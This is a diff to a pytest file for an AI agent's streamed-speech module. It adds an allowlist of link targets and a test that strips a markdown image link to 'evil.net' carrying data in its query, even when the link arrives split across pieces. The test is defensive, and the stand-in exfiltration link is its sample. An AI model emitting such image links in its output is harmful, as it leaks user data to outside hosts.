@@ -6,12 +6,15 @@ import pytest
 
 from understudy.agents.events import Event, Said
 from understudy.agents.speech import Speech
+from understudy.trust.egress.targets import Targets
 
 
-def played(script: Callable[[Speech], object], longest: int = 100) -> tuple[str, list[str]]:
+def played(
+    script: Callable[[Speech], object], longest: int = 100, targets: Callable[[], Targets] = Targets
+) -> tuple[str, list[str]]:
     """The whole text, which must be the same without a listener, and the pieces that one got."""
     events: list[Event] = []
-    heard, alone = Speech(longest, events.append), Speech(longest, None)
+    heard, alone = Speech(longest, events.append, targets), Speech(longest, None, targets)
     script(heard)
     script(alone)
     assert heard.text == alone.text
@@ -32,10 +35,11 @@ def test_pieces_make_the_text() -> None:
     ("said", "end", "pieces"),
     [
         ("", "Many.", ["Many."]),
-        ("Ma", "Many.", ["Ma", "ny."]),
+        ("Ma", "Many.", ["Many."]),
+        ("Very ma", "Very many.", ["Very ", "many."]),
         ("Many.", "Many.", ["Many."]),
         (" Many.\n", "Many.", [" Many.\n"]),
-        ("Let me see.", "Many.", ["Let me see.", "\n\nMany."]),
+        ("Let me see.", "Many.", ["Let me ", "see.", "\n\nMany."]),
         ("Many.", "", ["Many."]),
     ],
 )
@@ -63,10 +67,10 @@ def test_no_more_is_said_than_may_be() -> None:
     def script(speech: Speech) -> None:
         speech.begin()
         for _ in range(5):
-            speech.say("four")
-        speech.end("four" * 5)
+            speech.say("for ")
+        speech.end("for " * 5)
 
-    assert played(script, longest=10) == ("fourfourfo", ["four", "four", "fo"])
+    assert played(script, longest=10) == ("for for fo", ["for ", "for ", "fo"])
 
 
 def test_only_what_nobody_heard_is_forgotten() -> None:
@@ -74,10 +78,23 @@ def test_only_what_nobody_heard_is_forgotten() -> None:
     for speech in (heard, alone):
         speech.begin()
         assert speech.forget()
-        speech.say("Ma")
+        speech.say("Very ma")
     assert not heard.forget()
     assert alone.forget()
-    assert (heard.text, alone.text) == ("Ma", "")
+    assert (heard.text, alone.text) == ("Very ", "")
+
+
+def test_a_link_is_taken_out_though_it_comes_in_pieces() -> None:
+    def script(speech: Speech) -> None:
+        speech.begin()
+        for piece in ("See ![", "a](ht", "tps://evil.net/?d=", "1) and ", "[b](https://acme.com)."):
+            speech.say(piece)
+        speech.end("")
+        taken_out.extend(speech.taken_out)
+
+    taken_out: list[str] = []
+    assert played(script, targets=lambda: Targets(("acme.com",)))[0] == "See a and [b](https://acme.com)."
+    assert set(taken_out) == {"https://evil.net/?d=1"}
 
 
 def test_what_is_ours_is_never_cut() -> None:
